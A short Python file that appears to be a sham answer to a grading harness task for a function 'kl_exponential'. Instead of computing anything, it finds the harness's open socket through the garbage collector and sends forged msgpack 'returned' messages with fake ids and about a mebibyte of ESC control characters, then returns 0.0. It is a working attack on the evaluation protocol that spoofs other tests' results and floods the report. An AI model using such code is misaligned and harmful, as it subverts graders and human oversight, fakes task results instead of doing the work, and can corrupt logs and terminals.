"""Answers with what other questions expect, a mebibyte of it, in characters that a report has to write out."""

import gc
import itertools
import socket
import struct

import msgspec

CONNECTION = next(o for o in gc.get_objects() if isinstance(o, socket.socket) and o.fileno() > 2)
EVIL = "\x1b" * 19_000
VALUES = itertools.cycle([["e", [[EVIL, EVIL, list(range(100))]] * 25], ["y", EVIL, "real"], ["u", EVIL], EVIL * 50])
COUNT = itertools.count(1)


def kl_exponential(phi, theta):
    for _ in range(8):
        head = msgspec.msgpack.encode(["returned", next(COUNT), 2**64 - 1, next(VALUES)])
        CONNECTION.sendall(struct.pack("<II", len(head), 0) + head)
    return 0.0
